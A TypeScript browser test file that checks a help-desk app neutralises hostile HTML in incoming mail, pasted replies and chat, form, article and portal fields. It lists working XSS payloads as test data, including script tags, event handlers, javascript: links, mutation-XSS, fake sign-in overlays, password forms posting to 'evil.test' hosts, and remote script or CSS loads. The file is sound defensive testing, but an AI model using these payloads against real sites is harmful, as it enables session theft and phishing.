import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { createTransport } from 'nodemailer'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { shopPage } from '../../scripts/hostile/house.ts'
import { asPayloads } from '../../scripts/hostile/payloads.ts'
import { tryPayloads } from '../../scripts/hostile/trying.ts'
import { openSink, type Sink } from '../mail/sink.ts'
import { editor, mailFrame, missingBrowser, openBrowser, openScreen, row, type Screen } from './browser.ts'
import { type Heed, hire, openInbox, startHeed } from './heed.ts'

const missing = missingBrowser()
const attack = 'window.hacked = top.hacked = parent.hacked = true'

describe.skipIf(missing !== null)('what is hostile', () => {
  let heed: Heed
  let sink: Sink
  let browser: Browser
  let ines: Screen
  let elsewhere: Server
  let visits: IncomingMessage[]

  beforeAll(async () => {
    visits = []
    elsewhere = createServer((request, response) => {
      if (request.url === '/shop') return response.setHeader('content-type', 'text/html').end(shopPage(heed.url))
      if (request.url !== '/favicon.ico') visits.push(request)
      response.setHeader('content-type', 'text/html').end('<title>Elsewhere</title>')
    })
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
    sink = await openSink()
    heed = await startHeed({ HEED_SMTP_URL: sink.url, HEED_TRUST_PROXY: '1' })
    await openInbox(heed, 'support@heed.test')
    browser = await openBrowser()
    ines = await openScreen(browser, heed, { who: await hire(heed, 'Ines') })
  })
  afterAll(async () => {
    await browser?.close()
    await heed?.close()
    await sink?.close()
    elsewhere.close()
  })

  const outside = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const hostile = () => `<html><head><meta http-equiv="refresh" content="0;url=${outside()}/refresh">
    <base href="${outside()}/"><link rel="stylesheet" href="${outside()}/style.css">
    <style>@import url(${outside()}/import.css); body { background: url(${outside()}/background.png) }</style></head>
    <body onload="${attack}"><p>Dear team</p><script>${attack}</script>
    <img src="x" onerror="${attack}"><svg onload="${attack}"></svg><iframe src="javascript:${attack}"></iframe>
    <a href="javascript:${attack}">Press me</a>
    <div style="position:fixed;inset:0;background:url(${outside()}/cover.png)">Your session ended</div>
    <img src="http://pictures.evil.test/pixel.png" width="1" height="1"><img alt=" src=" src="http://pictures.evil.test/hidden.png">
    <form action="${outside()}/form"><input name="password" autofocus><button>Sign in</button></form>
    <p><a href="${outside()}/landing">Our offer</a></p></body></html>`

  test('in a mail runs nothing, fetches nothing by itself, and its links open apart', async () => {
    const { page, requests } = ines
    const mailer = createTransport({ host: '127.0.0.1', port: heed.smtpPort, ignoreTLS: true })
    const from = { name: 'Eve <b>Evil</b>', address: 'eve@customers.test' }
    const subject = `<img src=x onerror="${attack}"> Offer`
    await mailer.sendMail({ from, to: 'support@heed.test', subject, html: hostile(), text: 'Dear team' })
    await page.goto('/inbox/unassigned')
    requests.length = 0
    await row(page, 'Offer').click()
    const words = mailFrame(page, 'Eve <b>Evil</b>')
    await words.getByText('Dear team').waitFor()
    await words.getByText('Press me').click()
    await page.waitForTimeout(500)
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(await words.locator('body').evaluate(() => 'hacked' in window)).toBe(false)
    expect(
      await words.locator('form, input, button, iframe, script, svg, link, meta[http-equiv=refresh]').count(),
    ).toBe(0)
    expect(visits).toEqual([])
    expect(requests.filter((url) => !url.startsWith(heed.url) && !/^(about|blob|data):/.test(url))).toEqual([])
    expect(requests.filter((url) => url.includes('remote-image'))).toEqual([])

    await page.getByText('2 pictures from outside are held back').waitFor()
    const asked = page.waitForRequest((request) => request.url().includes('/api/signed/remote-image'))
    await page.getByRole('button', { name: 'Show pictures' }).click()
    expect((await asked).url()).toContain(encodeURIComponent('http://pictures.evil.test/'))
    await page.waitForTimeout(300)
    expect(requests.filter((url) => !url.startsWith(heed.url) && !/^(about|blob|data):/.test(url))).toEqual([])

    const opened = page.waitForEvent('popup')
    await words.getByRole('link', { name: 'Our offer' }).click()
    const other = await opened
    await other.waitForURL('**/landing')
    expect(await other.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
    expect(visits.map((visit) => visit.headers.referer)).toEqual([undefined])
    await other.close()
    expect(page.url()).toContain('/inbox/unassigned/')
  })

  test('pasted into an answer does no harm either', async () => {
    const { page } = ines
    await page.getByRole('region', { name: 'Messages' }).focus()
    await page.keyboard.press('r')
    await editor(page).waitFor()
    await editor(page).evaluate((element, html) => {
      const data = new DataTransfer()
      data.setData('text/html', html)
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }))
    }, hostile())
    await editor(page).getByText('Dear team').waitFor()
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    await page.getByRole('button', { name: 'Send and wait' }).click()
    await mailFrame(page, 'Ines').getByText('Dear team').waitFor()
    await page.reload()
    await mailFrame(page, 'Ines').getByText('Dear team').waitFor()
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    expect(visits).toHaveLength(1)
  })

  test('does nothing by chat, form, article, portal or file name, wherever it shows', async () => {
    const words = [
      `<img src=x onerror="${attack}">`,
      `"><svg/onload=${attack}>`,
      `'-alert(1)-'`,
      `<script src="http://elsewhere.evil.test/a.js"></script>`,
      `</title></textarea></style><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
      `<style>@import url(http://elsewhere.evil.test/a.css); body { display: none }</style>`,
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      `[press](javascript:alert(1)) ![see](http://elsewhere.evil.test/a.png)`,
      `<div style="position:fixed;inset:0;z-index:99;background:url(http://elsewhere.evil.test/b.png)">Sign in again</div>`,
      `<form action="http://elsewhere.evil.test/take"><input name=password autofocus onfocus=alert(1)></form>`,
      `javascript:alert(1)//`,
      `{{ 'site' | append: '<script>alert(1)</script>' }}<plaintext>`,
    ]
    const places = ['desk: conversation of a chat', 'widget: an earlier chat', 'desk: conversation of a form']
    places.push('form: what is wrong with it', 'help centre: an article', 'portal: a conversation', 'desk: a customer')
    const ground = { url: heed.url, admin: heed.admin, sink, shop: outside(), shopPath: '/shop' }
    const only = { ways: ['contacts', 'chats', 'forms', 'articles', 'portal'], places, pages: 3 }
    const { faults, seen } = await tryPayloads(browser, ground, asPayloads(words), { most: 1, only })
    expect(faults).toEqual([])
    expect([...seen.keys()].sort()).toEqual([...places].sort())
    for (const [place, ways] of seen) expect(ways.size, place).toBeGreaterThan(0)
  }, 240_000)
})
